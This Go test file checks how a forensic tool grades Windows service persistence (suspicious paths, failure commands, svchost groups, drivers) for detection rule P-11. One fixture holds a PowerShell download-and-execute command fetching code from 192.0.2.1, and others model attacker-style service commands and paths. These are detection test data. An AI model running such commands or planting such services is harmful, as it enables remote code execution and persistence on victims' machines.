package findings_test

import (
	"slices"
	"testing"

	"github.com/artifactdump/artifactdump/artifacts"
	"github.com/artifactdump/artifactdump/artifacts/findings"
	"github.com/artifactdump/artifactdump/artifacts/persistence"
)

// driver makes a service a kernel driver.
func driver(s *persistence.Service) { s.ServiceType = 1 }

// failing makes a record the one of a service's failure command.
func failing(name, command, image, payload string) artifacts.Record {
	return service(name, image, func(s *persistence.Service) {
		s.Mechanism, s.Command, s.Payload, s.FailureCmd = "Service failure command", command, payload, command
	})
}

// TestServicePlaces: (a) of P-11. Services run with the highest rights, so a
// place counts a step more than for other programs.
func TestServicePlaces(t *testing.T) {
	checkLevels(t, "P-11", []verdict{
		{"in the shared folder", findings.Critical, records{service("agent", `C:\Users\Public\agent.exe`, nil)}},
		{"among a user's files", findings.High, records{service("agent", `C:\Users\u\Downloads\agent.exe`, nil)}},
		{"at the root", findings.High, records{service("agent", `C:\agent.exe`, nil)}},
		{"in a temporary folder", findings.High, records{service("agent", `C:\Windows\Temp\agent.exe`, nil)}},
		{"in the folder of Windows, as some vendors do", findings.Low, records{service("PrinterHelper", `C:\Windows\prnhelp.exe`, nil)}},
		{"there under a random name", findings.High, records{service("PrinterHelper", `C:\Windows\QwRtZpLk.exe`, nil)}},
		{"there under the name of a tool", findings.High, records{service("helper", `C:\Windows\psexesvc.exe`, nil)}},
		{"in Program Files", silent, records{service("agent", `C:\Program Files\Vendor\agent.exe`, nil)}},
		{"a program of Windows at home", silent, records{service("Spooler", `C:\Windows\System32\spoolsv.exe`, nil)}},
		{"on a share, as some networks have it", silent, records{service("agent", `\\server\tools\agent.exe`, nil)}},
		{"on the disk of a remote desktop's client", findings.Critical, records{service("agent", `\\tsclient\c\agent.exe`, nil)}},
		{"disabled", findings.High, records{service("agent", `C:\Users\Public\agent.exe`, func(s *persistence.Service) { s.Entry.Disabled = true })}},
		{"deleted", findings.High, records{deleted(service("agent", `C:\Users\Public\agent.exe`, nil))}},
	})
	checkSays(t, "P-11", records{service("agent", `C:\Users\Public\agent.exe`, nil)}, "the service agent starts", "(L1)")
}

// TestServiceLibraries: (b), (c) and (e) of P-11.
func TestServiceLibraries(t *testing.T) {
	shared := func(dll string) artifacts.Record {
		return service("wlansrv", `C:\Windows\System32\svchost.exe`, func(s *persistence.Service) {
			s.ServiceDLL, s.SvchostGroup, s.GroupListed = dll, "netsvcs", "yes"
		})
	}
	unquoted := func(image, stored string) artifacts.Record {
		return service("agent", image, func(s *persistence.Service) { s.Guessed, s.ImagePath = true, stored })
	}
	group := func(listed string, more func(*persistence.Service)) artifacts.Record {
		return service("evilsvc", `C:\Windows\System32\svchost.exe`, func(s *persistence.Service) {
			s.SvchostGroup, s.GroupListed = "netsvcs", listed
			if more != nil {
				more(s)
			}
		})
	}
	checkLevels(t, "P-11", []verdict{
		{"a path with blanks, no quotes, in Program Files", findings.Low,
			records{unquoted(`C:\Program Files\Some Vendor\a.exe`, `C:\Program Files\Some Vendor\a.exe`)}},
		{"the same where others may write", findings.Medium, records{unquoted(`D:\Apps For All\a.exe`, `D:\Apps For All\a.exe`)}},
		{"with quotes", silent, records{unquoted(`C:\Program Files\Some Vendor\a.exe`, `"C:\Program Files\Some Vendor\a.exe"`)}},
		{"without blanks", silent, records{unquoted(`C:\Program`+`Files\a.exe`, `C:\ProgramFiles\a.exe`)}[:0]},
		{"in no group of svchost", findings.Medium, records{group("no", nil)}},
		{"in its group", silent, records{group("yes", nil)}},
		{"no list of groups was read", silent, records{group("unknown", nil)}},
		{"in no group, but off", silent, records{group("no", func(s *persistence.Service) { s.Entry.Disabled = true })}},
		{"in no group, as the copies for users", silent, records{group("no", func(s *persistence.Service) { s.ServiceType = 0xE0 })}},
		{"a library of Windows", silent, records{shared(`C:\Windows\System32\wlansvc.dll`)}},
	})
}

// TestServiceFailureCommands: what starts when a service fails, by its place
// and its words.
func TestServiceFailureCommands(t *testing.T) {
	checkLevels(t, "P-11", []verdict{
		{"from an odd place", findings.High, records{failing("Spooler", `C:\Users\Public\a.exe`, `C:\Users\Public\a.exe`, "")}},
		{"a download", findings.High, records{failing("Spooler", `powershell -c "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"`,
			`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "")}},
		{"a command of the prompt", findings.Medium, records{failing("Spooler", `cmd.exe /c echo failed`, `C:\Windows\System32\cmd.exe`, "")}},
		{"a bare name", findings.Medium, records{failing("Spooler", `restart.exe`, `restart.exe`, "")}},
		{"of its vendor, a batch file", findings.Low, records{failing("NvContainer", `C:\Program Files\Vendor\restart.bat`, `C:\Program Files\Vendor\restart.bat`, "")}},
	})
	checkSays(t, "P-11", records{failing("Spooler", `C:\Users\Public\a.exe`, `C:\Users\Public\a.exe`, "")}, "when Spooler fails, C:\\Users\\Public\\a.exe is started", "(L1)")
}

// TestServiceStarts: (d), (g), (i) and (j) of P-11.
func TestServiceStarts(t *testing.T) {
	shell := func(name, path, image string) artifacts.Record {
		return service(name, image, func(s *persistence.Service) { s.ImagePath, s.Command = path, path })
	}
	checkLevels(t, "P-11", []verdict{
		{"the prompt", findings.Critical, records{shell("abc", `cmd.exe /c start C:\x.exe`, `C:\Windows\System32\cmd.exe`)}},
		{"the prompt by its variable", findings.Critical, records{shell("abc", `%COMSPEC% /b /c start x`, `C:\Windows\System32\cmd.exe`)}},
		{"an interpreter of a server program", findings.Medium, records{shell("tomcat", `java -jar server.jar`, `C:\Program Files\Java\bin\java.exe`)}},
		{"the installer of Windows", silent, records{shell("msiserver", `C:\Windows\System32\msiexec.exe /V`, `C:\Windows\System32\msiexec.exe`)}},
		{"a random name in an odd place", findings.Critical, records{service("QwRtZpLk", `C:\Users\Public\a.exe`, nil)}},
		{"a script that is the program", findings.Medium, records{service("agent", `C:\Program Files\Vendor\run.bat`, nil)}},
		{"a driver's file of another kind is judged by its folder", silent, records{service("vendor", `C:\Windows\System32\drivers\vendor.dat`, driver)}},
		{"marked for deletion", findings.Informational, records{service("old", `C:\Program Files\Old\old.exe`, func(s *persistence.Service) { s.DeleteFlag = true })}},
	})
	if got := techniques(records{shell("abc", `cmd.exe /c start C:\x.exe`, `C:\Windows\System32\cmd.exe`)}, "P-11"); !slices.Contains(got, "T1543.003") {
		t.Errorf("the technique of a service is missing: %v", got)
	}
}

// TestServiceDrivers: where drivers lie, and those that responders load.
func TestServiceDrivers(t *testing.T) {
	checkLevels(t, "P-11", []verdict{
		{"among the drivers", silent, records{service("vendor", `C:\Windows\System32\drivers\vendor.sys`, driver)}},
		{"in the store", silent, records{service("vendor", `C:\Windows\System32\DriverStore\FileRepository\vendor.inf_amd64_1\vendor.sys`, driver)}},
		{"of the antivirus", silent, records{service("MpKsl1234", `C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{1}\MpKslDrv.sys`, driver)}},
		{"in Program Files", findings.Low, records{service("vendor", `C:\Program Files\Vendor\vendor.sys`, driver)}},
		{"in a folder of ProgramData", findings.High, records{service("vendor", `C:\ProgramData\Vendor\vendor.sys`, driver)}},
		{"in a temporary folder", findings.High, records{service("gdrv", `C:\Users\u\AppData\Local\Temp\gdrv.sys`, driver)}},
		{"of an acquisition tool, in a temporary folder", findings.Low, records{service("winpmem", `C:\Users\u\AppData\Local\Temp\winpmem_x64.sys`, driver)}},
		{"of an acquisition tool, elsewhere", findings.Low, records{service("pmem", `C:\ProgramData\Case\winpmem.sys`, driver)}},
		{"a bare name, which Windows looks for among its own", silent, records{service("vendor", `vendor.sys`, driver)}},
	})
}

// TestServiceSetUpNearStarts: (g) of P-11. A name that looks random counts in
// Program Files only near starts that deserve a look.
func TestServiceSetUpNearStarts(t *testing.T) {
	odd := service("xkqzwvtr", `C:\Program Files\A\a.exe`, nil)
	checkLevels(t, "P-11", []verdict{
		{"by itself", silent, records{odd}},
		{"within an hour", findings.Medium, records{odd, pf(`\Users\Public\a.exe`, at(59))}},
		{"after more than an hour", silent, records{odd, pf(`\Users\Public\a.exe`, at(61))}},
		{"near starts of ordinary programs", silent, records{odd, pf(`\Program Files\B\b.exe`, at(5))}},
		{"only in an older copy of the hive", silent, records{in(artifacts.Backup, odd), pf(`\Users\Public\a.exe`, at(5))}},
		{"a name with vowels", silent, records{service("helpersvc", `C:\Program Files\A\a.exe`, nil), pf(`\Users\Public\a.exe`, at(5))}},
		{"a short name without", silent, records{service("wscsvc", `C:\Program Files\A\a.exe`, nil), pf(`\Users\Public\a.exe`, at(5))}},
	})
}
